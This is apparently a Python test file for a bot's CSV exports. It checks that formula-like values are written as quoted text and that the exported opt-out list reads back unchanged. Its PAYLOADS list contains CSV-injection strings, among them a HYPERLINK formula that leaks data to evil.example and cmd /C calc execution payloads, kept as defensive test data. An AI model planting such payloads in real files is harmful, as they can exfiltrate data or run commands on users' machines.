"""Every CSV the bot writes is safe to open in a spreadsheet: the one writer's rules, then
each export (layoffs, RSVPs, signers, opt-outs) fed formula-like values through the
commands, on SQLite and PostgreSQL, and the opt-out list read back as it was."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

from commands.optouts import parse_optouts
from storage.csvfile import FORMULA_STARTS, read_cell, safe_cell, write_csv
from storage.db import Database
from tests.support import Bot, Person, ok, start_bot

ORGANIZER = Person("olu", roles=frozenset({"organizer"}))
#: what a spreadsheet would run: a link out, a command, a function, arithmetic, a tab, a CR
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def rows_of(data: bytes) -> list[dict[str, str]]:
    """A CSV file's rows by column name (a CR inside a quoted cell is kept)."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_safe(data: bytes) -> list[dict[str, str]]:
    """No cell of the file starts like a formula unless it is a plain number; its rows."""
    rows = rows_of(data)
    for row in rows:
        for column, cell in row.items():
            risky = cell.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(cell)
            assert not risky, (column, cell)
    return rows


def test_the_writer_quotes_formula_like_text_and_leaves_numbers_alone() -> None:
    data = write_csv(
        ("text", "int", "float", "number_text", "flag", "nothing"),
        [[payload, -5, -12.5, "-12.5", True, None] for payload in PAYLOADS],
    )
    rows = assert_safe(data)
    assert [row["text"] for row in rows] == ["'" + payload for payload in PAYLOADS]
    assert {(r["int"], r["float"], r["number_text"], r["flag"], r["nothing"]) for r in rows} == {
        ("-5", "-12.5", "-12.5", "yes", "")
    }
    # the quote comes off on reading, and only the quote the writer put there
    for text in (*PAYLOADS, "'Tis", "'=x", "''", "'", "plain", "-5", "", "O'Hara"):
        cell = safe_cell(text)
        assert isinstance(cell, str) and read_cell(cell) == text, text
    assert safe_cell("'Tis") == "'Tis" and safe_cell("'=x") == "''=x"


async def as_named(bot: Bot, person: Person, display_name: str, line: str) -> None:
    """Type ``line`` as ``person`` whose platform display name is ``display_name``."""
    inv = replace(bot.invocation(person), display_name=display_name)
    reply = await bot.app.dispatcher.handle_text(inv, line)
    assert not reply.error, reply.text


async def export(bot: Bot, line: str) -> bytes:
    """The one file an organizer's export command answers with."""
    (file,) = (await ok(bot, ORGANIZER, line)).files
    assert file.mime == "text/csv"
    return file.data


async def test_every_export_writes_formula_like_cells_as_text(
    database: Database, tmp_path: Path
) -> None:
    bot = await start_bot(database)
    await ok(
        bot,
        ORGANIZER,
        '/alert create title:"Letter" body:B kind:sign-on deadline:"2026-11-20 17:00"',
    )
    await ok(bot, ORGANIZER, "/alert send id:1")
    await bot.app.settle()
    await ok(
        bot,
        ORGANIZER,
        '/event create title:"Lobby day" kind:"Legislative day" start:"2027-04-12 09:00" '
        'end:"2027-04-13 17:00"',
    )
    people = [Person(f"p{n}") for n in range(len(PAYLOADS))]
    for person, payload in zip(people, PAYLOADS, strict=True):
        quoted = payload.replace("\\", "\\\\").replace("'", "\\'")
        await as_named(bot, person, payload, "/profile alert_dms:no")
        await as_named(
            bot,
            person,
            payload,
            f"/layoff report employer:'{quoted}' city:'{quoted}' details:'{quoted}' anonymous:no",
        )
        await as_named(
            bot,
            person,
            payload,
            f"/alert sign id:1 title:'{quoted}' institution:'{quoted}' city:'{quoted}'",
        )
        await as_named(
            bot, person, payload, f"/event rsvp id:1 status:going state:IL accessibility:'{quoted}'"
        )
    # the grammar trims what is typed; a display name keeps its tab or CR
    typed = {p.strip() for p in PAYLOADS}
    named = set(PAYLOADS)

    def column(rows: list[dict[str, str]], name: str) -> set[str]:
        return {read_cell(row[name]) for row in rows}

    layoffs = assert_safe(await export(bot, "/layoff export"))
    for name in ("employer", "city", "details"):
        assert column(layoffs, name) == typed, name
    assert column(layoffs, "reporter") == named

    signers = assert_safe(await export(bot, "/alert signers id:1"))
    assert column(signers, "name") == named
    for name in ("title", "institution", "city"):
        assert column(signers, name) == typed, name

    rsvps = assert_safe(await export(bot, "/event attendees id:1"))
    assert column(rsvps, "name") == named
    assert column(rsvps, "accessibility") == typed

    optouts = await export(bot, "/privacy optouts")
    assert column(assert_safe(optouts), "display_name") == named
    # the exported list, imported, names each account exactly as it was
    read, problems = parse_optouts(optouts.decode("utf-8"))
    assert problems == []
    assert {(row.account, row.display_name) for row in read} == {
        (person.name, payload) for person, payload in zip(people, PAYLOADS, strict=True)
    }
